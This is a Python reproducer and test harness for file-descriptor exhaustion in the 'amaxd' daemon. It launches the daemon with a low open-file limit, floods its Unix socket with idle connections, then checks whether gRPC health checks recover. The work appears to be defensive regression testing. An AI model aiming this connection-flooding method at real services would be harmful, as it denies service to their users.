
"""File-descriptor exhaustion reproducer for amaxd (CVE-2023-4785 class).

The daemon runs with a small RLIMIT_NOFILE (start_daemon(..., nofile=(soft,
hard)) sets it in the child before exec). exhaust() opens `n` idle
connections to its Unix socket (connect only, nothing sent), keeps them
`hold` seconds, closes them, then checks Health on a NEW connection for
`recover` seconds (every `every` s) and on a connection opened before the
attack.

As a library (pytest):
    p = start_daemon(binary, sock, nofile=(1024, 1024))
    r = exhaust(sock, n=1100)     # dict, see below
    assert r["recovered_after"] is not None

exhaust() returns: "opened" (connects that succeeded), "connect_errors",
"health_old" (latency on the pre-existing channel after the attack, None on
failure), "fresh" (list of (t_since_close, latency or None)), and
"recovered_after" (seconds from close until the first fresh Health that
succeeded, None if never within `recover`).

As a script: fds.py --bin PATH [--soft 1024 --hard 1024] [--n 1100]
[--recover 30] [-- daemon args]; prints the result and the daemon's log lines
about accept/EMFILE.
"""
import argparse
import os
import resource
import signal
import socket
import subprocess
import sys
import tempfile
import time

HEALTH = "/grpc.health.v1.Health/Check"
# A new channel must not share a connection with an older one (grpcio pools
# subchannels by target), or "a new connection" would silently reuse one.
FRESH = [("grpc.use_local_subchannel_pool", 1)]


def health(path_or_channel, timeout=2.0):
    """Latency of one Health/Check (SERVING), or None. A str opens a new channel."""
    import grpc
    own = isinstance(path_or_channel, str)
    ch = grpc.insecure_channel("unix:" + path_or_channel, options=FRESH) if own else path_or_channel
    t = time.monotonic()
    try:
        r = ch.unary_unary(HEALTH)(b"", timeout=timeout, wait_for_ready=True)
        return time.monotonic() - t if r == b"\x08\x01" else None
    except grpc.RpcError:
        return None
    finally:
        if own:
            ch.close()


def open_idle(path, n, timeout=2.0):
    socks, errors = [], 0
    for _ in range(n):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(timeout)
        try:
            s.connect(path)
            socks.append(s)
        except OSError:
            errors += 1
            s.close()
    return socks, errors


def exhaust(path, n=1100, hold=1.0, recover=10.0, every=0.5):
    import grpc
    old = grpc.insecure_channel("unix:" + path)
    assert health(old, 5) is not None, "daemon not healthy before the attack"
    need = n + 64
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < need:  # the attacker itself needs n descriptors
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(need, hard), hard))
    socks, errors = open_idle(path, n)
    time.sleep(hold)
    for s in socks:
        s.close()
    t0 = time.monotonic()
    h_old = health(old, 5)
    fresh, recovered = [], None
    while time.monotonic() - t0 < recover:
        lat = health(path, 2.0)
        fresh.append((round(time.monotonic() - t0, 2), lat))
        if lat is not None:
            recovered = fresh[-1][0]
            break
        time.sleep(every)
    old.close()
    return {"opened": len(socks), "connect_errors": errors, "health_old": h_old,
            "fresh": fresh, "recovered_after": recovered}


def start_daemon(binary, sock, args=(), nofile=None, env=None):
    def pre():
        if nofile:
            resource.setrlimit(resource.RLIMIT_NOFILE, nofile)
    log = open(sock + ".log", "wb")
    p = subprocess.Popen([binary, f"--socket={sock}", "--log-level=info", *args],
                         stdout=log, stderr=subprocess.STDOUT, preexec_fn=pre, env=env)
    end = time.time() + 20
    while time.time() < end:
        if p.poll() is not None:
            break
        if os.path.exists(sock) and health(sock, 1.0) is not None:
            return p
        time.sleep(0.05)
    raise RuntimeError(f"amaxd did not start (rc={p.poll()}): see {sock}.log")


def stop_daemon(p, timeout=20):
    if p.poll() is None:
        p.send_signal(signal.SIGTERM)
    try:
        return p.wait(timeout)
    except subprocess.TimeoutExpired:
        p.kill()
        p.wait()
        return "killed"


def nfds(pid):
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--bin", default="b/amaxd")
    ap.add_argument("--soft", type=int, default=1024)
    ap.add_argument("--hard", type=int, default=1024)
    ap.add_argument("--n", type=int, default=1100)
    ap.add_argument("--hold", type=float, default=1.0)
    ap.add_argument("--recover", type=float, default=10.0)
    ap.add_argument("--env", action="append", default=[])
    ap.add_argument("daemon_args", nargs="*")
    a = ap.parse_args()
    tmp = tempfile.mkdtemp(prefix="fds-")
    sock = os.path.join(tmp, "amaxd.sock")
    env = dict(os.environ)
    env.update(kv.split("=", 1) for kv in a.env)
    p = start_daemon(a.bin, sock, a.daemon_args, (a.soft, a.hard), env)
    with open(f"/proc/{p.pid}/limits") as f:
        lim = [ln.split()[3:5] for ln in f if ln.startswith("Max open files")][0]
    idle = nfds(p.pid)
    r = exhaust(sock, a.n, a.hold, a.recover)
    after = nfds(p.pid)
    rc = stop_daemon(p)
    with open(sock + ".log", errors="replace") as f:
        log = f.read()
    keys = ("accept", "Too many", "listen", "descriptor", "nofile", "NOFILE")
    lines = [ln for ln in log.splitlines() if any(k in ln for k in keys)]
    fresh = r["fresh"]
    print(f"limit soft/hard={lim[0]}/{lim[1]} fds_idle={idle} fds_after={after} n={a.n} "
          f"opened={r['opened']} connect_errors={r['connect_errors']} "
          f"health_old={'FAIL' if r['health_old'] is None else '%.1fms' % (r['health_old']*1000)} "
          f"fresh_tries={len(fresh)} recovered_after={r['recovered_after']} rc={rc}")
    for ln in lines[:3] + (["... (%d lines)" % len(lines)] if len(lines) > 6 else []) + lines[-3:] if len(lines) > 6 else lines:
        print("  log:", ln[:200])
    return 0 if r["recovered_after"] is not None else 1


if __name__ == "__main__":
    sys.exit(main())
